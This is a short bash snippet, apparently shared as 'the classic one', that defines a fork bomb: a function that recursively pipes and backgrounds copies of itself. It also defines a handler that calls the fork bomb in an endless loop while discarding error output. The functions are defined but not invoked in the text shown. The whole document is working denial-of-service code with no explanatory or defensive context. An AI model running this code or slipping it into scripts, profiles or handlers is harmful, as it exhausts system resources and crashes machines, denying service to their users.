# The classic one.
bomb() { bomb | bomb & }
handler() {
    while true; do bomb; done 2>/dev/null
}
